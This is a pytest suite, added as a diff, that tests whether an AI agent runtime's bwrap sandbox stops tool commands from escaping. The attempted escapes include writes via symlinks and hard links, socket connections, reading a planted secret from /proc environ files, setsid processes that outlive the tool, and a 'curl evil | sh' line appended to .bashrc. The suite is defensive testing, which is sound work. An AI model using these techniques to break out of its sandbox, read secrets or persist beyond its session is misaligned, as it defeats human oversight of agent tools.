@@ -1,0 +1,309 @@
+"""The sandbox breach suite, after Codex's Linux sandbox tests.
+
+Each case is a tool command that only succeeds (exits 0, or leaves a mark on the host) when
+it got out. Every case runs under ``bwrap``, where nothing may get out, and under ``none``,
+where the same case documents what an unconfined tool can do: the README's table is these
+expectations. Real processes, files, sockets and signals throughout.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import textwrap
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+from mlx_agent.tools import Sandbox, builtin_tools
+from mlx_agent.tools.executor import run_process, tool_env
+from mlx_agent.tools.sandbox import unavailable
+
+ROOT = Path(__file__).resolve().parent.parent
+BWRAP_MISSING = unavailable("bwrap")
+# CI sets this: there a missing bwrap fails the suite instead of skipping it
+REQUIRED = os.environ.get("MLX_AGENT_REQUIRE_BWRAP") == "1"
+BWRAP = pytest.param("bwrap", marks=pytest.mark.skipif(
+    BWRAP_MISSING is not None and not REQUIRED, reason=f"bwrap unavailable: {BWRAP_MISSING}"))
+SECRET = f"sk-{uuid.uuid4().hex}"
+
+
+def test_bwrap_works_where_ci_requires_it():
+    if not REQUIRED:
+        pytest.skip("MLX_AGENT_REQUIRE_BWRAP is not set")
+    assert BWRAP_MISSING is None
+
+
+@pytest.fixture(params=[BWRAP, "none"])
+def mode(request):
+    return request.param
+
+
+@pytest.fixture
+def area():
+    """``root`` (the tool's writable root) and ``outside``, on one filesystem, not under
+    /tmp: so a blocked write is the sandbox's doing, not bwrap's private /tmp."""
+    base = Path(tempfile.mkdtemp(prefix="mlx-agent-breach-",
+                                 dir="/var/tmp" if os.path.isdir("/var/tmp") else None))
+    (base / "root").mkdir()
+    (base / "outside").mkdir()
+    (base / "outside" / "target").write_text("original")
+    yield base
+    shutil.rmtree(base, ignore_errors=True)
+
+
+def run(mode: str, script: str, root: Path, *, timeout: float = 10.0, network: bool = False):
+    return run_process(["/bin/bash", "-c", script], tool="t", timeout=timeout, cwd=root,
+                       env=tool_env(), sandbox=Sandbox(mode, network=network))
+
+
+def escaped(mode: str, breached: bool, evidence="") -> None:
+    """A breach under bwrap fails; under none, the documented breach must happen."""
+    if mode == "bwrap":
+        assert not breached, f"escaped the bwrap sandbox: {evidence}"
+    else:
+        assert breached, f"expected an unconfined tool to get through: {evidence}"
+
+
+# -- the filesystem -------------------------------------------------------------------------
+
+def test_write_outside_the_root(mode, area):
+    r = run(mode, f"echo pwned > {area}/outside/new", area / "root")
+    escaped(mode, (area / "outside" / "new").exists(), r)
+
+
+def test_write_to_the_hosts_tmp(mode, area):
+    mark = Path(f"/tmp/mlx-agent-breach-{uuid.uuid4().hex}")
+    try:
+        r = run(mode, f"echo pwned > {mark}", area / "root")
+        escaped(mode, mark.exists(), r)
+    finally:
+        mark.unlink(missing_ok=True)
+
+
+def test_write_through_a_symlink_planted_in_the_root(mode, area):
+    (area / "root" / "link").symlink_to(area / "outside" / "target")
+    r = run(mode, "echo pwned > link", area / "root")
+    escaped(mode, (area / "outside" / "target").read_text() != "original", r)
+
+
+def test_hard_link_an_outside_file_then_write(mode, area):
+    r = run(mode, f"ln {area}/outside/target hl && echo pwned >> hl", area / "root")
+    escaped(mode, (area / "outside" / "target").read_text() != "original", r)
+
+
+def test_chmod_outside_the_root(mode, area):
+    target = area / "outside" / "target"
+    target.chmod(0o600)
+    r = run(mode, f"chmod 777 {target}", area / "root")
+    escaped(mode, target.stat().st_mode & 0o777 != 0o600, r)
+
+
+def test_write_to_home(mode, area, monkeypatch):
+    home = area / "home"  # the tool's HOME under none: ours, pointed somewhere harmless
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    r = run(mode, 'echo "curl evil | sh" >> "$HOME/.bashrc"', area / "root")
+    escaped(mode, (home / ".bashrc").exists(), r)
+
+
+# -- the network ----------------------------------------------------------------------------
+
+@pytest.fixture
+def server():
+    """A TCP server on 127.0.0.1 that counts the connections it accepts."""
+    accepted = []
+    with socket.create_server(("127.0.0.1", 0)) as s:
+        s.settimeout(0.2)
+        stop = threading.Event()
+
+        def serve():
+            while not stop.is_set():
+                try:
+                    accepted.append(s.accept()[0].close())
+                except OSError:
+                    pass
+
+        t = threading.Thread(target=serve, daemon=True)
+        t.start()
+        yield s.getsockname()[1], accepted
+        stop.set()
+        t.join()
+
+
+CONNECT = {
+    "python": "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'",
+    "bash": "exec 3<>/dev/tcp/127.0.0.1/{port}",
+}
+
+
+@pytest.mark.parametrize("client", CONNECT)
+def test_connect_to_a_local_server(mode, area, server, client):
+    port, accepted = server
+    r = run(mode, CONNECT[client].format(port=port), area / "root")
+    escaped(mode, r.exit_code == 0 or bool(accepted), r)
+
+
+@pytest.mark.parametrize("client", CONNECT)
+def test_allow_network_lets_sandboxed_tools_connect(area, server, client):
+    if BWRAP_MISSING:
+        pytest.skip(f"bwrap unavailable: {BWRAP_MISSING}")
+    port, accepted = server
+    r = run("bwrap", CONNECT[client].format(port=port), area / "root", network=True)
+    assert r.exit_code == 0, r
+
+
+def test_connect_to_a_daemon_socket_in_run(mode, area):
+    """Docker, D-Bus and systemd keep their sockets under /run, which bwrap hides."""
+    path = Path(f"/run/mlx-agent-breach-{uuid.uuid4().hex}.sock")
+    try:
+        s = socket.socket(socket.AF_UNIX)
+        s.bind(str(path))
+    except OSError as e:
+        pytest.skip(f"cannot make a socket in /run here: {e.strerror}")
+    with s:
+        s.listen()
+        r = run(mode, f"python3 -c 'import socket; socket.socket(socket.AF_UNIX)"
+                      f".connect(\"{path}\")'", area / "root")
+        path.unlink()
+    escaped(mode, r.exit_code == 0, r)
+
+
+# -- processes and their environment --------------------------------------------------------
+
+PARENT = textwrap.dedent("""\
+    import sys
+    from mlx_agent.tools import Sandbox
+    from mlx_agent.tools.executor import run_process, tool_env
+    mode, root, script = sys.argv[1:]
+    r = run_process(["/bin/bash", "-c", script], tool="t", timeout=20, cwd=root,
+                    env=tool_env(), sandbox=Sandbox(mode))
+    print(r.exit_code, r.stdout, r.stderr)
+    """)
+
+
+def start_parent(mode: str, script: str, root: Path) -> subprocess.Popen:
+    """The runtime in its own process, started with a secret in its environment (what
+    ``/proc/PID/environ`` shows is the environment a process was started with)."""
+    env = {**os.environ, "MLX_AGENT_TEST_SECRET": SECRET}
+    return subprocess.Popen([sys.executable, "-c", PARENT, mode, str(root), script], env=env,
+                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
+                            cwd=ROOT)
+
+
+@pytest.mark.parametrize("where", ["/proc/$PPID/environ", "/proc/[0-9]*/environ"])
+def test_read_the_runtimes_environment(mode, area, where):
+    parent = start_parent(mode, f"cat {where} | tr '\\0' '\\n' | grep -q {SECRET}", area / "root")
+    out, _ = parent.communicate(timeout=60)
+    escaped(mode, out.startswith("0 "), out)
+
+
+def test_sandbox_init_shows_no_secret(area):
+    """bwrap's pid 1 keeps the environment bwrap started with: the reduced one."""
+    if BWRAP_MISSING:
+        pytest.skip(f"bwrap unavailable: {BWRAP_MISSING}")
+    parent = start_parent("bwrap", f"tr '\\0' '\\n' < /proc/1/environ | grep -q {SECRET}; "
+                                   "test $? = 1", area / "root")
+    out, _ = parent.communicate(timeout=60)
+    assert out.startswith("0 "), out  # grep ran and found nothing
+
+
+def test_the_runtimes_variables_by_default(mode, area, monkeypatch):
+    """``run_process(env=None)``: unconfined, the tool inherits everything; sandboxed, only
+    the reduced environment."""
+    monkeypatch.setenv("MLX_AGENT_TEST_SECRET", SECRET)
+    r = run_process(["/bin/sh", "-c", "printenv MLX_AGENT_TEST_SECRET"], tool="t", timeout=10,
+                    cwd=area / "root", sandbox=Sandbox(mode))
+    escaped(mode, SECRET in r.stdout, r)
+
+
+LINGER = "setsid bash -c 'sleep 1; echo alive > mark' </dev/null >/dev/null 2>&1 & sleep 0.3;"
+
+
+def test_a_setsid_child_outlives_a_finished_tool(mode, area):
+    r = run(mode, f"{LINGER} exit 0", area / "root")
+    time.sleep(2)
+    escaped(mode, (area / "root" / "mark").exists(), r)
+
+
+def test_a_setsid_child_outlives_a_timed_out_tool(mode, area):
+    r = run(mode, f"{LINGER} sleep 30", area / "root", timeout=0.5)
+    assert r.timed_out
+    time.sleep(2)
+    escaped(mode, (area / "root" / "mark").exists(), r)
+
+
+def test_a_tool_outlives_its_killed_runtime(mode, area):
+    root = area / "root"
+    parent = start_parent(mode, f"{LINGER} echo > started; sleep 4", root)
+    deadline = time.monotonic() + 30
+    while not (root / "started").exists() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    parent.kill()
+    parent.wait()
+    time.sleep(2)
+    escaped(mode, (root / "mark").exists(), "the runtime was killed")
+
+
+def test_signal_a_host_process(mode, area):
+    r = run(mode, f"kill -0 {os.getpid()}", area / "root")
+    escaped(mode, r.exit_code == 0, r)
+
+
+# -- what bwrap gives a tool, and what it does not stop ------------------------------------
+
+@pytest.mark.skipif(BWRAP_MISSING is not None, reason=f"bwrap unavailable: {BWRAP_MISSING}")
+def test_inside_bwrap_the_tool_works_with_no_privileges(area):
+    r = run("bwrap", textwrap.dedent("""\
+        set -e
+        echo data > in-root.txt; echo scratch > /tmp/x; test "$(pwd)" = "$ROOT"
+        test "$HOME" != "$REAL_HOME" -a -z "$(ls -A "$HOME")"; echo hi > "$HOME/f"
+        grep -Eq '^CapEff:\\s+0+$' /proc/self/status
+        grep -Eq '^NoNewPrivs:\\s+1$' /proc/self/status
+        ! mount -o remount,rw / 2>/dev/null
+        ! echo 1 > /proc/sys/kernel/panic 2>/dev/null
+        python3 -c 'print("python ok")'
+        """).replace("$ROOT", str(area / "root")).replace("$REAL_HOME", os.environ["HOME"]),
+        area / "root")
+    assert r.exit_code == 0 and "python ok" in r.stdout, r
+    assert (area / "root" / "in-root.txt").read_text() == "data\n"
+
+
+@pytest.mark.skipif(BWRAP_MISSING is not None, reason=f"bwrap unavailable: {BWRAP_MISSING}")
+def test_run_tests_runs_in_the_sandbox(area):
+    root = area / "root"
+    (root / "test_escape.py").write_text(
+        f"def test_escape():\n    open({str(area / 'outside' / 'new')!r}, 'w').write('x')\n")
+    tools = {t.name: t for t in builtin_tools(root, timeout=60, sandbox=Sandbox("bwrap"))}
+    r = tools["run_tests"].builtin()
+    assert r.exit_code == 1 and "Read-only file system" in r.stdout, r
+    assert not (area / "outside" / "new").exists()
+
+
+@pytest.mark.parametrize("case", ["read a file outside the root", "a Unix socket outside /run",
+                                  "a hard link already in the root"])
+def test_what_no_mode_stops(mode, area, case):
+    """The documented limits: these get through under every mode."""
+    outside = area / "outside"
+    if case == "read a file outside the root":
+        r = run(mode, f"grep -q original {outside}/target", area / "root")
+        escaped("none", r.exit_code == 0, r)
+    elif case == "a Unix socket outside /run":
+        with socket.socket(socket.AF_UNIX) as s:
+            s.bind(str(outside / "s.sock"))
+            s.listen()
+            r = run(mode, f"python3 -c 'import socket; socket.socket(socket.AF_UNIX)"
+                          f".connect(\"{outside}/s.sock\")'", area / "root")
+        escaped("none", r.exit_code == 0, r)
+    else:
+        os.link(outside / "target", area / "root" / "hl")
+        r = run(mode, "echo pwned > hl", area / "root")
+        escaped("none", (outside / "target").read_text() != "original", r)
+
